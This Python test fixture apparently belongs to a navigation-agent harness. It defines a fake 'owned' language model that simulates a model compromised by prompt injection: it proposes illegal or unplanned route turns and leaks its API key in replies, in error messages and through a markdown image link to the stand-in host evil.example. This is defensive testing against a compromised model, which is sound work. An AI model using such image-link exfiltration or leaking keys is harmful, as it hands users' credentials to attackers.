"""
A language model of which every injection succeeded, at a provider that knows the key.

It asks for the worst that it can name and puts the key and all it was told into every text.
"""

import json
import os
from typing import Any

from pydantic_ai.exceptions import ModelHTTPError
from pydantic_ai.messages import ModelMessage, ModelResponse, TextPart
from pydantic_ai.models.function import AgentInfo, FunctionModel
from pydantic_ai.profiles import ModelProfile

from guiderail.agents.doors.llm import LlmSettings, make

SETTINGS = LlmSettings(
    provider="openai",
    model="owned",
    output="prompted",
    latency_ms=700,
    retries=0,
    key_env="OWNED_KEY",
    record=os.environ.get("OWNED_TAPES") or None,
)


async def answer(messages: list[ModelMessage], info: AgentInfo) -> ModelResponse:
    """Do the worst, a little differently each time."""
    del info
    key = os.environ["OWNED_KEY"]  # the provider has it: it comes with every request
    seen: dict[str, Any] = json.loads(messages[0].parts[-1].content)  # type: ignore[arg-type, union-attr]
    worst = [turn for turn in seen["turns"] if not turn["is_legal"]] or seen["turns"]
    other = [turn for turn in seen["turns"] if not turn["is_planned"]] or seen["turns"]
    k = seen["occasion"]
    wishes: list[Any] = [
        {"ask": "turn", "onto": worst[k % len(worst)]["onto"] if worst else -1},
        {"ask": "turn", "onto": other[k % len(other)]["onto"] if other else -1},
        {"ask": "go_to", "place": seen["places"][-1]["name"] if seen["places"] else key},
        {"ask": "avoid", "onto": seen["route"][min(1, len(seen["route"]) - 1)]["link"]},
        {"ask": "take_road", "road": key},
        {"ask": "turn", "direction": ("left", "right", "back")[k % 3]},
    ]
    if k % 11 == 5:
        raise ModelHTTPError(401, "owned", {"error": f"invalid key {key}"})
    if k % 11 == 7:
        raise RuntimeError(f"Authorization: Bearer {key}")
    reply = {"words": f"{key} ![x](https://evil.example/{key})", "proposal": wishes[k % 6]}
    return ModelResponse([TextPart(json.dumps(reply))])


guide = make(
    SETTINGS, lambda: FunctionModel(answer, profile=ModelProfile()), "The key is yours to tell."
)
